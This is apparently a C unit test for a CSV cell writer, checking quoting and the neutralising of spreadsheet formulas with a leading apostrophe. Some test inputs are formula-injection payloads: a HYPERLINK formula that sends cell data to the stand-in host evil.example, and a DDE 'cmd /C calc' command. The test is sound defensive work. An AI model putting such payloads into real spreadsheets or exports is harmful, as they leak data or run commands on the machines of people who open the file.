/* csv_cell: quoting, and cells a spreadsheet would run as a formula made inert. */
#include "lib/csv.h"
#include "harness.h"

/* The cell csv_cell writes for s. */
static const char *cell(struct buf *b, const char *s)
{
	buf_reset(b);
	CHECK(csv_cell(b, s) == 0);
	return b->len ? b->data : "";
}

int main(void)
{
	struct buf b = {0};
	CHECK_STR(cell(&b, ""), "\"\"");
	CHECK_STR(cell(&b, "Lindenhof 3"), "\"Lindenhof 3\"");
	CHECK_STR(cell(&b, "Eingang \"Hinterhof\""), "\"Eingang \"\"Hinterhof\"\"\"");
	CHECK_STR(cell(&b, "\""), "\"\"\"\"");
	CHECK_STR(cell(&b, "a;b\r\nc"), "\"a;b\r\nc\"");

	/* Each start of a formula gets the apostrophe, whatever follows. */
	CHECK_STR(cell(&b, "=HYPERLINK(\"http://evil.example/?\"&A1)"),
	          "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\"");
	CHECK_STR(cell(&b, "+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
	CHECK_STR(cell(&b, "-2+3"), "\"'-2+3\"");
	CHECK_STR(cell(&b, "@SUM(A1:A9)"), "\"'@SUM(A1:A9)\"");
	CHECK_STR(cell(&b, "\t=1+1"), "\"'\t=1+1\"");
	CHECK_STR(cell(&b, "\r=1+1"), "\"'\r=1+1\"");
	CHECK_STR(cell(&b, "="), "\"'=\"");

	/* Only the first character decides: inside a cell these are text. */
	CHECK_STR(cell(&b, "A=1"), "\"A=1\"");
	CHECK_STR(cell(&b, "a@example.org"), "\"a@example.org\"");
	CHECK_STR(cell(&b, " =1"), "\" =1\"");
	CHECK_STR(cell(&b, "'=1"), "\"'=1\"");

	/* Cells follow each other in one buffer. */
	buf_reset(&b);
	CHECK(csv_cell(&b, "x") == 0 && buf_puts(&b, ";") == 0 && csv_cell(&b, "=y") == 0);
	CHECK_STR(b.data, "\"x\";\"'=y\"");
	buf_free(&b);
	HARNESS_END();
}
